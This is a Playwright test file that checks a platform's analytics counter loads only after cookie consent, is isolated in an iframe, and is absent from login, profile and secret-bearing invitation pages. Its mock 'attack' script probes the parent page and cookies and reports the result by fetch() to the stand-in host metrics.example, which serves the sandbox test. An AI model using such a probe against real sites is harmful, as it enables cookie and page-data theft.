import { randomUUID } from 'node:crypto'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures'
import { leavesNothing } from './nothing-left'
import { speak } from './people'
import { reset, store } from './shell-page'
import { asOwn, takenOver } from './signed-in'
import { spokenIn } from './spoken'

leavesNothing()

const { language, words } = spokenIn(import.meta.filename)
const counter = 'https://metrics.example/counter.js'
test.afterEach(() => reset('metricsScript'))

const counterFrame = (page: Page) => page.frames().find((frame) => frame.url().includes('/platform/counter?'))
const countedPage = (page: Page) => {
  const address = counterFrame(page)?.url()
  return address ? new URL(new URL(address).searchParams.get('page') ?? '').pathname : null
}

/** What a script of the counter tries at the pages of the platform; it tells what it came to. */
const attack = `(async () => {
  const tries = {
    origin: () => (origin === 'null' ? Promise.reject() : 1),
    page: () => parent.document.body,
    cookie: () => document.cookie + 'x',
  }
  const got = []
  for (const [name, attempt] of Object.entries(tries))
    try { await attempt(); got.push(name) } catch {}
  fetch('https://metrics.example/hit?got=' + got.join())
})()`

test('the analytics counter runs where people read, after the consent, and never where they type', async ({
  page,
  context,
  baseURL,
  database: _,
}) => {
  await speak(context, language, baseURL)
  const hits: string[] = []
  await context.route('https://metrics.example/**', (route) => {
    const { pathname, search } = new URL(route.request().url())
    hits.push(pathname + search)
    return route.fulfill({
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
      body: attack,
    })
  })
  await store({ metricsScript: counter })
  // the server reads its settings anew when it is notified
  const info = async () => (await page.request.get('/api/v1/platform/ui/project/info')).json()
  await expect.poll(info).toMatchObject({ metrics: counter })
  await page.goto('/platform/law/cookies')
  const accept = page.getByRole('button', { name: words.common.cookie.accept })
  await expect(accept).toBeVisible()
  expect(hits).toEqual([])
  await accept.click()
  // it runs, and comes to nothing of the platform
  await expect.poll(() => hits).toEqual(['/counter.js', '/hit?got='])
  expect(countedPage(page)).toBe('/platform/law/cookies')
  await page.reload()
  await expect.poll(() => countedPage(page)).toBe('/platform/law/cookies')
  // where something is typed there is no counter, and it is back where people read
  await page.getByRole('link', { name: words.common.signIn, exact: true }).click()
  await takenOver(page)
  await expect(page).toHaveURL(/\/platform\/login/)
  await expect(page.locator('iframe[data-metrics]')).toHaveCount(0)
  expect(countedPage(page)).toBeNull()
  await page.locator('a[href^="/platform/law/"]').first().click()
  await expect(page).toHaveURL(/\/platform\/law\//)
  await expect.poll(() => countedPage(page)).toMatch(/^\/platform\/law\//)
  // an address that contains a secret must not reach the counter
  await page.goto(`/platform/login?path=/platform/invitation/${randomUUID()}`)
  await expect(page.locator('h1')).toBeVisible()
  expect(countedPage(page)).toBeNull()
  await asOwn(context, 'noServices', language)
  await page.goto('/platform/profile')
  await takenOver(page)
  expect(countedPage(page)).toBeNull()
})
